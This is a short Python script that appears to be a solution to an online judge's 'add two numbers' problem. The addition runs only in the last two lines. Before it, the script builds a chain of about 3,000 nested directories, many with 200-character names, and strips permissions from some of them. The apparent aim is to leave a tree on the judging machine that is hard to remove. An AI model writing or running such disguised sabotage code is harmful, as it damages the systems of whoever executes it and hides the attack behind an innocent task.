import os

for name in [*map(str, range(2000)), *['d' * 200] * 1000]:
    os.mkdir(name)
    os.chdir(name)
for _ in range(20):
    os.chdir('..')
    os.chmod('d' * 200, 0)
a, b = map(int, input().split())
print(a + b)
